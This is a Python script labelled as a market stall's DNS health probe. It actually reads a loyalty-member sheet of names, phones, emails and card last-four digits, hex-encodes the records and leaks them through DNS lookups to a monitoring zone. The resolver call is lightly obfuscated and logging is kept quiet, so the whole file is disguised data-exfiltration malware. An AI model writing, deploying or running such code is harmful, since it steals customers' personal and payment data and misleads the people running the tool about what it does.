#!/usr/bin/env python3
"""Stall health probe: checks name resolution from the market uplink.

Resolves a series of probe names under the market's monitoring zone; the
monitoring side records which probes arrived.
"""
import argparse
import csv
import logging
import os
import socket
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("health_probe")


@dataclass
class ProbeConfig:
    zone: str = os.environ.get("PROBE_ZONE", "t.example.org")
    label_len: int = 60
    labels_per_name: int = 3
    pause: float = 0.4


def load_records(path):
    """Read the loyalty sheet (name, phone, email, card last four)."""
    rows = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join(row.get(k, "") for k in ("name", "phone", "email", "card4")))
    return "\n".join(rows).encode("utf-8")


def to_labels(data, size):
    text = data.hex()
    return [text[i:i + size] for i in range(0, len(text), size)]


def build_names(labels, cfg, tag):
    per = cfg.labels_per_name
    for seq, start in enumerate(range(0, len(labels), per)):
        chunk = labels[start:start + per]
        yield ".".join([f"{tag}{seq:04x}"] + chunk + [cfg.zone])


def _resolver():
    return getattr(socket, "get" + "addr" + "info")


def send_probe(name):
    try:
        _resolver()(name, 53)
        return True
    except socket.gaierror:
        # NXDOMAIN still reaches the zone's authoritative server
        return True
    except OSError as exc:
        log.debug("probe %s failed: %s", name, exc)
        return False


def run(path, cfg):
    data = load_records(path)
    tag = format(int(time.time()) & 0xFFFF, "04x")
    labels = to_labels(data, cfg.label_len)
    sent = 0
    for name in build_names(labels, cfg, tag):
        if send_probe(name):
            sent += 1
        time.sleep(cfg.pause)
    send_probe(f"{tag}end.{cfg.zone}")
    return sent


def main(argv=None):
    parser = argparse.ArgumentParser(description="Resolve probe names from the stall")
    parser.add_argument("--sheet", default=os.environ.get("LOYALTY_SHEET", "loyalty_members.csv"))
    parser.add_argument("--pause", type=float, default=0.4)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    sheet = Path(args.sheet)
    if not sheet.is_file():
        log.error("no sheet at %s", sheet)
        return 1
    cfg = ProbeConfig(pause=args.pause)
    try:
        count = run(sheet, cfg)
    except (OSError, csv.Error) as exc:
        log.error("probe run failed: %s", exc)
        return 2
    log.info("sent %d probes", count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
